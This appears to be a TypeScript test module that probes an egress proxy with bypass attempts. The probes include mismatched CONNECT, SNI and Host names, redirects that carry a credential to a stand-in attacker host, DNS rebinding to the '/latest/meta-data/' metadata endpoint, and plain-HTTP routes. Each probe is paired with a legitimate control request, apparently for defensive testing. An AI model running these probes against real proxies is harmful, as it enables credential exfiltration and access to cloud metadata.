import type { Attempt, Brief, InsideRow } from '../brief.js'
import { attempt, inTurn, type Outcome } from './lib/attempt.mjs'
import { exchange, get, getByTls, openTcp, openTls, openTunnel } from './lib/http.mjs'
import { askJira } from './lib/twins.mjs'

export const rows: Readonly<Record<string, InsideRow>> = {
  'identity-mismatch': { attack: nameDifferentHosts, twin: useTunnel },
  redirect: { attack: followRedirects, twin: askEcho },
  rebinding: { attack: rebind, twin: askAssets },
  impostor: { attack: askImpostor, twin: askJira },
  'plain-http': { attack: askWithoutTls, twin: askJira },
}

/** CONNECT target, SNI and Host, where null stands for a step that is left out. */
type Names = readonly [connect: string | null, sni: string | null, host: string]

async function nameDifferentHosts({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  const { jira, llm, attacker, tunnel } = names
  const path = `/rest/api/2/myself?attack=${marker}`
  const combinations: Names[] = [
    [null, jira, attacker],
    [null, jira, llm],
    [null, attacker, jira],
    [null, null, jira],
    [jira, jira, attacker],
    [jira, attacker, jira],
    [jira, attacker, attacker],
    [jira, llm, llm],
    [jira, llm, jira],
    [jira, null, jira],
    [attacker, jira, jira],
    [tunnel, attacker, attacker],
    [tunnel, jira, jira],
    [tunnel, null, tunnel],
  ]
  const go = async ([connect, sni, host]: Names): Promise<Outcome> => {
    const socket =
      connect === null ? await openTcp(doors.https) : await openTunnel(doors.proxy, `${connect}:443`)
    return exchange(await openTls(socket, sni), get(host, path))
  }
  return inTurn([
    ...combinations.map(
      (one) => () => attempt(`CONNECT ${one[0] ?? '-'}, SNI ${one[1] ?? '-'}, Host ${one[2]}`, () => go(one)),
    ),
    () =>
      attempt('CONNECT with another Host', async () => {
        const socket = await openTunnel(doors.proxy, `${jira}:443`, `${attacker}:443`)
        return exchange(await openTls(socket, jira), get(jira, path))
      }),
    () =>
      attempt('absolute form with another Host', async () =>
        exchange(await openTcp(doors.proxy), get(attacker, `https://${jira}${path}`)),
      ),
    () =>
      attempt('absolute form inside TLS', () => getByTls(doors.https, jira, `https://${attacker}${path}`)),
    () =>
      attempt('TLS into the plain door', async () =>
        exchange(await openTls(await openTcp(doors.http), jira), get(jira, path)),
      ),
  ])
}

/** Follows as a careless client does: to wherever it is sent, with whatever it was given. */
async function followRedirects({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  const queries: Record<string, string> = {
    https: `to=https://${names.attacker}/`,
    http: `to=http://${names.attacker}/`,
    'https, the credential in its query': `carry=1&to=https://${names.attacker}/`,
    'another service': `to=https://${names.llm}/v1/messages`,
  }
  return inTurn(
    Object.entries(queries).map(
      ([what, query]) =>
        () =>
          attempt(`redirect to ${what}`, async () => {
            const path = `/redirect?attack=${marker}&${query}`
            const { bytes = Buffer.alloc(0) } = await getByTls(doors.https, names.echo, path)
            const location = /^location: (.*)$/im.exec(bytes.toString('latin1'))?.[1]?.trim() ?? ''
            if (!URL.canParse(location)) return { reached: false, said: 'no redirect', bytes }
            const next = await follow(doors, location)
            return { ...next, bytes: Buffer.concat([bytes, next.bytes ?? Buffer.alloc(0)]) }
          }),
    ),
  )
}

async function follow(doors: Brief['doors'], location: string): Promise<Outcome> {
  const { protocol, host, pathname, search } = new URL(location)
  if (protocol === 'https:') return getByTls(doors.https, host, pathname + search)
  return exchange(await openTcp(doors.http), get(host, pathname + search))
}

async function rebind({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('a wildcard name that resolves to the metadata service', () =>
      getByTls(doors.https, names.metadata, `/latest/meta-data/?attack=${marker}`),
    ),
  ]
}

async function askImpostor({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('GET at a service whose name leads to the attacker', () =>
      getByTls(doors.https, names.impostor, `/?attack=${marker}`),
    ),
  ]
}

async function askWithoutTls({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  const path = `/rest/api/2/myself?attack=${marker}`
  return inTurn([
    () =>
      attempt('transparent door, port 80', async () =>
        exchange(await openTcp(doors.http), get(names.jira, path)),
      ),
    () =>
      attempt('explicit proxy, absolute form', async () =>
        exchange(await openTcp(doors.proxy), get(names.jira, `http://${names.jira}${path}`)),
      ),
    () =>
      attempt('inside CONNECT', async () =>
        exchange(await openTunnel(doors.proxy, `${names.jira}:443`), get(names.jira, path)),
      ),
  ])
}

async function useTunnel({ doors, names, ca }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('CONNECT, SNI and Host of the tunnel agree', async () => {
      const socket = await openTunnel(doors.proxy, `${names.tunnel}:443`)
      // The service's own certificate, verified end to end: nobody reads along.
      const secured = await openTls(socket, names.tunnel, { ca })
      return exchange(secured, get(names.tunnel, `/body?twin=${marker}`))
    }),
  ]
}

async function askEcho({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  return [await attempt('GET /body', () => getByTls(doors.https, names.echo, `/body?twin=${marker}`))]
}

async function askAssets({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt(`GET https://${names.assets}/`, () =>
      getByTls(doors.https, names.assets, `/?twin=${marker}`),
    ),
  ]
}
